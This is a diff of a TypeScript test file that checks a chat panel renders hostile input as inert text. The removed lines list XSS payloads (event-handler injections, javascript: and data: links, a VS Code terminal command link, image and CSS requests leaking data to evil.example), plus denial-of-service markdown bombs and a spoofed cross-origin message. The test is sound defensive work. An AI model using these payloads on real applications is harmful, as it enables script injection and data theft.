@@ -1,63 +1,30 @@
 import assert from 'node:assert/strict';
-import type { View } from '../../../src/protocol/view.ts';
+import type { Attachment, Item, View } from '../../../src/protocol/view.ts';
+import { attacks, bombs } from '../../support/attacks.ts';
 import { sampleView } from '../../support/panel-page/sample-view.ts';
 import { panelBench } from './panel-bench.ts';
 
-const attacks: readonly string[] = [
-  '<img src=x onerror="globalThis.attacked=1">',
-  '<svg onload="globalThis.attacked=1"></svg>',
-  '</noscript><img src=https://evil.example/a>',
-  '</style><img src=https://evil.example/b>',
-  '<style>@import url(https://evil.example/c);</style>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.attacked=1>',
-  '<a href="javascript:globalThis.attacked=1">x</a>',
-  '[x](javascript:globalThis.attacked=1)',
-  '[x](java\tscript:globalThis.attacked=1)',
-  '[x](data:text/html,<script>globalThis.attacked=1</script>)',
-  '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)',
-  '[x](vscode://x.y/z) [x](file:///etc/passwd) [x](\\\\host\\x)',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/d">',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example/e"><button>Send</button></form>',
-  '<link rel="dns-prefetch" href="https://evil.example/f">',
-  '<iframe src="https://evil.example/g"></iframe>',
-  '<a id=acquireVsCodeApi></a><form id=panelTest><input name=posted></form>',
-  '![](https://evil.example/?q=secret) ![a][b]\n\n[b]: https://evil.example/h',
-  '```mermaid\ngraph LR; A[<img src=https://evil.example/i>]\n```',
-  '$\\includegraphics{https://evil.example/j}$',
-  '`<script>globalThis.attacked=1</script>`',
-  '```html\n<script>globalThis.attacked=1</script>\n```',
-  '[x]("onmouseover="globalThis.attacked=1)',
-  '<div style="position:fixed;inset:0;background:url(https://evil.example/k)">',
-];
-
-const bombs: readonly [string, string][] = [
-  ['brackets', '['.repeat(100_000)],
-  ['quotes', '>'.repeat(100_000)],
-  ['lists in lists', Array.from({ length: 1_500 }, (_, level) => `${' '.repeat(level)}- x`).join('\n')],
-  ['a table of a megabyte', `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(170_000)}`],
-  ['emphasis', '_a__a '.repeat(20_000)],
-  ['a fence without an end', `\`\`\`js\n${'{'.repeat(300_000)}`],
-];
-
-const answering = (text: string): View => ({
-  ...sampleView,
-  items: [
-    { kind: 'user', id: 'u', text },
+/** A view that says `text` wherever it can say anything. */
+const answering = (text: string): View => {
+  const line = text.slice(0, 1_000);
+  const file: Attachment = { id: 'f', kind: 'file', name: line, tokens: 1, problem: line };
+  const items: readonly Item[] = [
+    { kind: 'user', id: 'u', text, record: 'r', attachments: [file] },
     { kind: 'answer', id: 'a', text, thinking: text, state: 'done' },
-    {
-      kind: 'tool',
-      id: 't',
-      name: text.slice(0, 1_000),
-      summary: text.slice(0, 1_000),
-      output: text,
-      state: 'done',
-    },
+    { kind: 'tool', id: 't', name: line, summary: line, output: text, state: 'done' },
     { kind: 'notice', id: 'n', level: 'error', text: text.slice(0, 5_000), actions: [] },
-  ],
-  title: text.slice(0, 1_000),
-  model: text.slice(0, 1_000),
-});
+  ];
+  return {
+    ...sampleView,
+    items,
+    title: line,
+    model: line,
+    server: line,
+    memory: { ...sampleView.memory, text: line, lastChange: line, failure: line },
+    composer: { ...sampleView.composer, attachments: [file] },
+    draft: { text: line, placed: 1 },
+  };
+};
 
 describe('the panel under attack', () => {
   const open = panelBench();
@@ -65,9 +32,18 @@ describe('the panel under attack', () => {
   for (const attack of attacks) {
     it(`shows ${JSON.stringify(attack.slice(0, 60))} as text and does nothing`, async () => {
       const { page } = await open(answering(attack));
+      await page.getByText('Memory details').click();
       const dangerous =
-        'img, iframe, form, base, style, math, .log script, .log meta, .log link, [onerror], [onload]';
-      assert.equal(await page.locator(`.log :is(${dangerous}), body > :is(${dangerous})`).count(), 0);
+        'img, iframe, object, embed, form, base, style, math, video, [onerror], [onload], [ping], [style*=url]';
+      assert.equal(await page.locator(`session-memory-chat :is(${dangerous})`).count(), 0);
+      assert.equal(
+        await page.locator('body > :not(script, session-memory-chat), body script:not([src])').count(),
+        0,
+      );
+      assert.equal(
+        await page.locator('answer-message :is(script, meta, link, input, [id], [name])').count(),
+        0,
+      );
       assert.equal(await page.evaluate('globalThis.attacked'), undefined);
       const hrefs = await page.evaluate<string[]>('[...document.links].map((link) => link.protocol)');
       assert.deepEqual(
@@ -76,6 +52,21 @@ describe('the panel under attack', () => {
       );
     });
   }
+
+  it('shows where a link leads, in letters that cannot be mistaken', async () => {
+    const { page } = await open(
+      answering('[\u0430pple.com](https://\u0430pple.com/) and \u202e[gpj.exe](https://example.com/a)'),
+    );
+    const links = page.locator('answer-message').getByRole('link');
+    assert.deepEqual(await links.evaluateAll((all) => all.map((link) => link.title)), [
+      'https://xn--pple-43d.com/',
+      'https://example.com/a',
+    ]);
+    assert.equal(
+      await page.evaluate('getComputedStyle(document.querySelector("answer-message a")).unicodeBidi'),
+      'isolate',
+    );
+  });
 
   it('only tells the host when a link is clicked, and goes nowhere', async () => {
     const panel = await open(answering('[x](https://example.com/a)'));
@@ -104,6 +95,37 @@ describe('the panel under attack', () => {
       assert.equal(await panel.page.locator('em').last().textContent(), 'here');
     });
   }
+
+  it('goes on while a bomb arrives piece by piece', async () => {
+    for (const [, bomb] of bombs) {
+      const panel = await open({
+        ...sampleView,
+        items: [{ kind: 'answer', id: 'a', text: '', state: 'streaming' }],
+      });
+      const piece = Math.ceil(Math.min(bomb.length, 200_000) / 20);
+      for (let from = 0; from < piece * 20; from += piece)
+        await panel.change({
+          kind: 'textAppended',
+          id: 'a',
+          part: 'text',
+          text: bomb.slice(from, from + piece),
+        });
+      await panel.page.locator('textarea').fill('still here');
+      assert.equal(await panel.page.locator('textarea').inputValue(), 'still here');
+    }
+  });
+
+  it('takes nothing from a window of another origin', async () => {
+    const panel = await open(sampleView);
+    const before = await panel.intents();
+    await panel.page.evaluate(
+      `for (const origin of ['https://evil.example', 'null', '']) window.dispatchEvent(new MessageEvent('message', {
+        origin, data: { kind: 'focusComposer' },
+      }))`,
+    );
+    assert.equal(await panel.page.evaluate('document.activeElement.localName'), 'body');
+    assert.deepEqual(await panel.intents(), before);
+  });
 
   it('drops and reports messages that are none, and goes on', async () => {
     const panel = await open(sampleView);
